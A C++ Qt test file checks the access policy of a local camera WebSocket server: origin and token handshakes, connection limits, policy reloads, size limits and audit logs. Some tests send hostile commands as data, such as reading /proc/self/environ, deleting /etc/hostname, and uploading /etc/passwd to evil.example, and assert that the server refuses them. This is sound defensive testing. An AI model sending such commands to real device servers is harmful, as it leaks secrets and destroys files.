// SPDX-License-Identifier: MIT
// The access policy at work: real connections, the log, the audit, changes of the file.
#include "access/accesscontrol.h"
#include "camera/captureimgthread.h"
#include "companionclients/companionclient.h"
#include "dispatch/loggedtext.h"
#include "dispatch/messagerun.h"
#include "log/qlog.h"
#include "tests/accesspolicy.h"
#include "tests/files.h"
#include "tests/manualclock.h"
#include "tests/pages.h"
#include "tests/rawpage.h"
#include "tests/recordingdevice.h"
#include "tests/rows.h"
#include "transport/websocketservermanager.h"

#include <QTemporaryDir>
#include <sys/stat.h>
#include <unistd.h>

#include <memory>

using accesspolicy::AccessControl;

namespace {

QStringList s_logged; // of the access policy
QtMessageHandler s_before;

void keepLines(QtMsgType type, const QMessageLogContext &context, const QString &text)
{
    if (text.startsWith(QLatin1String("access:"))) {
        s_logged << text;
    } else if (type > QtWarningMsg) {
        s_before(type, context, text);
    }
}

QByteArray handshake(const QByteArray &headers = "Origin: https://bank.example\r\n",
                     const QByteArray &target = "/")
{
    return "GET " + target
        + " HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
          "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
          "Sec-WebSocket-Version: 13\r\n"
        + headers + "\r\n";
}

/// A page with an origin; see RawPage for its frames.
class OriginPage
{
public:
    explicit OriginPage(quint16 port, const QByteArray &request = handshake())
    {
        m_socket.connectToHost(QHostAddress::LocalHost, port);
        m_socket.write(request);
    }

    void send(const QByteArray &text) { m_socket.write(RawPage::message(text)); }
    void write(const QByteArray &bytes) { m_socket.write(bytes); }

    /// Everything up to a text that must come; empty if it doesn't.
    QByteArray readUpTo(const QByteArray &end)
    {
        const bool came = QTest::qWaitFor(
            [&] {
                m_bytes += m_socket.readAll();
                return m_bytes.contains(end);
            },
            patienceMs);
        return came ? std::exchange(m_bytes, QByteArray()) : QByteArray();
    }
    QByteArray readToTheEnd()
    {
        const bool ended = QTest::qWaitFor(
            [&] {
                m_bytes += m_socket.readAll();
                return m_socket.state() == QAbstractSocket::UnconnectedState;
            },
            patienceMs);
        return ended ? std::exchange(m_bytes, QByteArray()) : QByteArray();
    }
    bool isOpen() { return readUpTo("\r\n\r\n").startsWith("HTTP/1.1 101 "); }
    QByteArray status() { return readToTheEnd().left(12); }
    void close() { m_socket.abort(); }
    QByteArray ask(const QByteArray &text, const QByteArray &name)
    {
        send(text);
        const QByteArray reply = readUpTo("End" + name);
        return reply.mid(reply.indexOf("Begin"));
    }

private:
    QTcpSocket m_socket;
    QByteArray m_bytes;
};

} // namespace

class TestAccessDoors : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        CaptureImgThread::instance()->setPause(true);
        s_before = qInstallMessageHandler(keepLines);
    }

    void init()
    {
        m_folder = std::make_unique<QTemporaryDir>();
        recording::reset();
        recording::answer("bStartPlay4", true);
        s_logged.clear();
    }

    void cleanup()
    {
        m_manager.reset();
        m_access.reset();
    }

    void handshakes_data()
    {
        const Rows<QByteArray, QByteArray, QByteArray> row("headers", "target", "status");
        row("right", "Origin: https://bank.example\r\n", "/?token=0123456789abcdef", "");
        row("token as a subprotocol",
            "Origin: https://bank.example\r\nSec-WebSocket-Protocol: a, token.0123456789abcdef\r\n",
            "/", "");
        row("another origin", "Origin: https://evil.example\r\n", "/?token=0123456789abcdef",
            "HTTP/1.1 403");
        row("none", "", "/?token=0123456789abcdef", "HTTP/1.1 403");
        row("no token", "Origin: https://bank.example\r\n", "/", "HTTP/1.1 403");
        row("two hosts", "Origin: https://bank.example\r\nHost: localhost\r\n",
            "/?token=0123456789abcdef", "HTTP/1.1 403");
    }

    void handshakes()
    {
        QFETCH(QByteArray, headers);
        QFETCH(QByteArray, target);
        QFETCH(QByteArray, status);
        writeFile(at("token"), "0123456789abcdef");
        chmod(qPrintable(at("token")), 0600);
        start(line("[token] required=true|file=") + at("token")
              + line(" [grant.a] origin=https://bank.example|allow=status"));
        OriginPage page(port(), handshake(headers, target));
        if (status.isEmpty()) {
            const QByteArray response = page.readUpTo("\r\n\r\n");
            QVERIFY(response.startsWith("HTTP/1.1 101 "));
            QCOMPARE(response.contains("\r\nSec-WebSocket-Protocol: token.0123456789abcdef\r\n"),
                     headers.contains("Protocol"));
            QCOMPARE(page.ask("version()", "version"),
                     QByteArray("Beginversionlinux_kylin_arm64Endversion"));
            QCOMPARE(s_logged.filter(line("refused")), QStringList());
        } else {
            QCOMPARE(page.status(), status);
            QCOMPARE(s_logged.filter(line("access: refused the handshake from ")).size(), 1);
        }
    }

    void theSocketListensOnThePolicysAddresses_data()
    {
        const Rows<QString, bool, bool> row("addresses", "first", "second");
        row("loopback", "loopback", true, false);
        row("listed", "127.0.0.2", false, true);
        row("both", "127.0.0.1, 127.0.0.2", true, true);
        row("any", "any", true, true);
    }

    void theSocketListensOnThePolicysAddresses()
    {
        QFETCH(QString, addresses);
        QFETCH(bool, first);
        QFETCH(bool, second);
        start(line("[listen] addresses=") + addresses);
        const auto answers = [this](const char *address) {
            QTcpSocket socket;
            socket.connectToHost(line(address), port());
            return socket.waitForConnected(patienceMs);
        };
        QCOMPARE(answers("127.0.0.1"), first);
        QCOMPARE(answers("127.0.0.2"), second);
    }

    void aHandshakeInPieces()
    {
        start(line("[grant.a] origin=https://bank.example|allow=status"));
        const QByteArray request = handshake() + RawPage::message("version()");
        OriginPage page(port(), request.left(30));
        QTest::qWait(20);
        page.write(request.mid(30));
        QVERIFY(!page.readUpTo("Endversion").isEmpty());
    }

    void pagesAreCounted()
    {
        start(line("[limits] clients=3|clients_per_origin=2 [grant.a] "
                   "origin=https://*.example|allow=status"));
        OriginPage a(port());
        QVERIFY(a.isOpen());
        auto b = std::make_unique<OriginPage>(port());
        QVERIFY(b->isOpen());
        QCOMPARE(OriginPage(port()).status(), QByteArray("HTTP/1.1 503")); // of one origin
        const QByteArray other = handshake("Origin: https://other.example\r\n");
        OriginPage c(port(), other);
        QVERIFY(c.isOpen());
        QCOMPARE(OriginPage(port(), other).status(), QByteArray("HTTP/1.1 503")); // of all
        QCOMPARE(s_logged.last(),
                 line("access: refused the handshake from https://other.example: "
                      "there are 3 pages already (access.ini:4)"));
        b->close();
        QTRY_VERIFY(OriginPage(port()).isOpen());
    }

    // Whatever any page on the web could do: the server's folder, a program there, its start.
    void theAttackFails()
    {
        const QString usual =
            line("[grant.a] origin=https://bank.example|allow=capture, file.read, "
                 "file.write, status, pages [files] read=%1|write=%1|delete=%1|"
                 "deny_extensions=sh [audit] file=audit.log")
                .arg(at("scan"));
        QDir().mkpath(at("scan"));
        start(usual);
        const QByteArray evil = handshake("Origin: https://evil.example\r\n");
        QCOMPARE(OriginPage(port(), evil).status(), QByteArray("HTTP/1.1 403"));
        // And should it run in a page of the bank:
        OriginPage page(port());
        QVERIFY(page.isOpen());
        QCOMPARE(page.ask("Base64Encode(/proc/self/environ)", "Base64Encode"),
                 QByteArray("BeginBase64EncodeEndBase64Encode"));
        const QByteArray script = QFile::encodeName(at("run-webbrowser.sh"));
        QCOMPARE(page.ask("Base64Decode(IyEvYmluL3NoCg==," + script + ")", "Base64Decode"),
                 QByteArray("BeginBase64DecodefalseEndBase64Decode"));
        QCOMPARE(page.ask("OpenURL(x)", "OpenURL"), QByteArray("BeginOpenURLfalseEndOpenURL"));
        QCOMPARE(page.ask("ReadCard()", "ReadCard"), QByteArray("BeginReadCardEndReadCard"));
        page.send("#to another page");
        page.send("@");
        page.send("vSetCapturePin(1)"); // is never answered
        page.send("nothing(1)");
        QCOMPARE(page.ask("bDeleteFile(/etc/hostname)", "bDeleteFile"),
                 QByteArray("BeginbDeleteFilefalseEndbDeleteFile"));
        QVERIFY(!gpWebSocket); // nothing of it has made it the current page
        QCOMPARE(recording::takeText(), QString());
        QCOMPARE(page.ask("bDeleteFile(" + QFile::encodeName(at("scan/./a")) + ")", "bDeleteFile"),
                 QByteArray("BeginbDeleteFilefalseEndbDeleteFile"));
        QCOMPARE(recording::takeText(), line("bDeleteFile(%1)").arg(at("scan/a")));

        const QString from = line(" from https://bank.example: ");
        QVERIFY(s_logged.contains(line("access: refused Base64Encode") + from
                                  + line("no policy opens this folder")));
        QVERIFY(s_logged.contains(line("access: refused ReadCard") + from
                                  + line("not allowed by grant.a (access.ini:5)")));
        QVERIFY(s_logged.contains(line("access: refused Base64Decode") + from
                                  + line("the extension is denied (access.ini:10)")));
        const QByteArray audit = contentOf(at("audit.log"));
        QCOMPARE(audit.count("\"event\":\"refused\""), 10);
        QCOMPARE(audit.count("\"event\":\"carried out\""), 1);
        QVERIFY(audit.contains("https://evil.example"));
        QCOMPARE(m_access->counts().size(), 2);
    }

    void withoutAPolicyAndInReportTheWireIsTheSame()
    {
        const QList<QByteArray> texts{"version()",
                                      "bStartPlay4()",
                                      "bDeleteFile(/etc/x)",
                                      "@",
                                      "#x",
                                      "Base64Encode(/proc/self/environ)",
                                      "nothing",
                                      "bCopyFile(a)",
                                      "sUpLoadImage(http://evil.example,/etc/passwd)",
                                      "getVersion("};
        const auto dialogue = [&](const QString &sections) {
            sections.isNull() ? startWithout() : start(sections);
            recording::reset();
            const quint16 where = port();
            OriginPage page(where,
                            handshake("Origin: https://evil.example\r\n"
                                      "Sec-WebSocket-Protocol: token.x\r\n"));
            for (const QByteArray &text : texts) {
                page.send(text);
            }
            QByteArray bytes = page.readUpTo("EndgetVersion");
            bytes.remove(bytes.indexOf("\r\nDate: "), 37); // the response's
            QByteArray calls; // not all: the capture thread stops previews when it comes to it
            for (const char *name :
                 {"bStartPlay4", "bDeleteFile", "Base64Encode", "sUpLoadImage"}) {
                calls += QByteArray::number(recording::count(name));
            }
            return bytes + calls;
        };
        const QByteArray without = dialogue(QString());
        QVERIFY(without.endsWith("1111"));
        const QString rules = line("[listen] addresses=10.9.8.7 [host] allow=x [limits] "
                                   "clients=1|commands_per_second=1|message_kib=1 [grant.a] "
                                   "origin=https://bank.example|allow=status");
        QCOMPARE(dialogue(line("mode=report ") + rules), without);
        QVERIFY(s_logged.size() > 8 && s_logged.filter(line("access: refused")).isEmpty());
        QCOMPARE(s_logged.filter(line("would refuse")).size(), texts.size() + 1);
        m_manager.reset();
        m_access.reset();
        const QByteArray report = contentOf(at("access-report.json"));
        QVERIFY(report.contains("\"https://evil.example\"") && report.contains("bDeleteFile"));
        s_logged.clear();
        QCOMPARE(dialogue(line("mode=off ") + rules), without);
        QCOMPARE(s_logged.size(), 1); // that it is in force
    }

    void changesAreTaken()
    {
        const QString file = at("prog/access.ini");
        const auto grant = [](const char *allow) {
            return policyText(line("[grant.a] origin=https://*.example|allow=") + line(allow));
        };
        const auto answers = [&](OriginPage &page, const QByteArray &result) {
            return page.ask("bStartPlay4()", "bStartPlay4")
                == "BeginbStartPlay4" + result + "EndbStartPlay4";
        };
        startWithout();
        OriginPage before(port());
        QVERIFY(before.isOpen());
        writeFile(file, grant("status"));
        QVERIFY(before.readToTheEnd().contains("policy")); // nobody knows who it is
        OriginPage page(port());
        QVERIFY(page.isOpen());
        QVERIFY(answers(page, "false"));
        writeFile(file + line(".new"), grant("status, camera"));
        QCOMPARE(rename(qPrintable(file + line(".new")), qPrintable(file)), 0);
        QTRY_VERIFY(answers(page, "true"));
        s_logged.clear();
        writeFile(file, grant("status") + "x=y\n");
        QTRY_COMPARE(s_logged.filter(line("there is no key \"x\"")).size(), 1);
        QVERIFY(s_logged.last().contains(line("the former policy stays")));
        QVERIFY(answers(page, "true"));
        s_logged.clear();
        QVERIFY(QFile::remove(file));
        QTRY_VERIFY(!s_logged.filter(line("the policy is gone")).isEmpty());
        QVERIFY(answers(page, "true"));
        writeFile(file, policyText(line("[grant.a] origin=https://other.example|allow=all")));
        QCOMPARE(RawPage::closeCode(page.readToTheEnd()), 1008);
    }

    void thePreviewOfAnOwner_data()
    {
        const Rows<QString, int> row("stopOnLeave", "stops");
        row("any", "any", 1);
        row("owner", "owner", 0);
    }

    void thePreviewOfAnOwner()
    {
        QFETCH(QString, stopOnLeave);
        QFETCH(int, stops);
        start(line("[grant.a] origin=*|allow=all [preview] stop_on_leave=") + stopOnLeave);
        OriginPage owner(port());
        OriginPage other(port());
        QVERIFY(owner.isOpen() && other.isOpen());
        owner.ask("bStartPlay4()", "bStartPlay4");
        other.ask("version()", "version");
        other.close();
        QTRY_VERIFY(!gpWebSocket);
        QCOMPARE(recording::count("bStopPlay4"), stops);
        owner.ask("version()", "version");
        owner.close();
        QTRY_VERIFY(!gpWebSocket);
        QCOMPARE(recording::count("bStopPlay4"), stops + 1);
    }

    void sizesAreLimited()
    {
        start(line("[limits] message_kib=2|pending_reply_mib=1|companion_wait_s=7 [grant.a] "
                   "origin=*|allow=all"));
        OriginPage page(port());
        QVERIFY(page.isOpen());
        QVERIFY(!page.ask("version(" + QByteArray(1000, 'x') + ")", "version").isEmpty());
        page.send("version(" + QByteArray(2048, 'x') + ")");
        QCOMPARE(RawPage::closeCode(page.readToTheEnd()), 1009);
        QVERIFY(!s_logged.filter(line("limits.message_kib (access.ini:4)")).isEmpty());

        QTRY_VERIFY(!gpWebSocket); // it has gone
        RawPage lazy(port()); // reads nothing
        lazy.write(RawPage::message("version()"));
        QTRY_VERIFY(gpWebSocket);
        QTRY_VERIFY_WITH_TIMEOUT(
            (MessageRun::send_msg(QString(1 << 20, QLatin1Char('x'))),
             !gpWebSocket || (lazy.write(RawPage::message("version()")), false)),
            patienceMs);
        QVERIFY(!s_logged.filter(line("limits.pending_reply_mib (access.ini:5)")).isEmpty());
        QCOMPARE(CompanionClient::replyLimit().count(), 7);
    }

    void keysOfLogAndAudit()
    {
        ManualClock clock; // the lines of a second are limited
        base::Clock::setShared(&clock);
        start(line("[log] personal=show|max_chars=100|max_mib=7 [audit] file=a.log|mib=1|keep=1|"
                   "chain=false"));
        QVERIFY(!loggedTextRules().hidesPersonal);
        QCOMPARE(loggedTextRules().maxChars, 100);
        QCOMPARE(QLog::instance()->maxFolderSize(), qint64(7) << 20);
        const accesspolicy::Visitor visitor({}, {},
                                            std::make_shared<accesspolicy::VisitorCounts>());
        for (int i = 0; i < 40; ++i) {
            clock.advance(std::chrono::seconds(2));
            m_access->noteRefusal(visitor, QString(60000, QLatin1Char('x')),
                                  line("limits.clients"));
        }
        const QStringList files = QDir(m_folder->path()).entryList({line("a.log*")});
        QCOMPARE(files, QStringList({line("a.log"), line("a.log.1")}));
        QVERIFY(QFileInfo(at("a.log.1")).size() > 1 << 20);
        QVERIFY(!contentOf(at("a.log")).contains("prev"));
        start(line("mode=off|[log] max_mib=7"));
        QCOMPARE(loggedTextRules().maxChars, 0);
        QCOMPARE(QLog::instance()->maxFolderSize(), qint64(0));
        base::Clock::setShared(nullptr);
    }

private:
    QString at(const char *path) const { return m_folder->filePath(line(path)); }
    quint16 port() const { return m_manager->port(); }

    void start(const QString &sections)
    {
        writeFile(at("prog/access.ini"), policyText(sections));
        startWithout();
    }

    /// Starts with whatever is there.
    void startWithout()
    {
        m_manager.reset();
        accesspolicy::PolicyPlaces places{
            at("etc/access.ini"), getuid(), at("prog/access.ini"), {at("prog")}};
        m_access = std::make_unique<AccessControl>(places, m_folder->path(), at("prog/webSite"));
        QCOMPARE(m_access->error(), QString());
        m_access->start();
        m_manager = std::make_unique<WebSocketServerManager>(QStringLiteral("test"),
                                                             QWebSocketServer::NonSecureMode);
        m_manager->setAccess(m_access.get());
        m_manager->websocke_server_start(QHostAddress::Any, 0);
        QVERIFY(m_manager->running());
    }

    std::unique_ptr<QTemporaryDir> m_folder;
    std::unique_ptr<AccessControl> m_access;
    std::unique_ptr<WebSocketServerManager> m_manager;
};

QTEST_GUILESS_MAIN(TestAccessDoors)
#include "tst_accessdoors.moc"
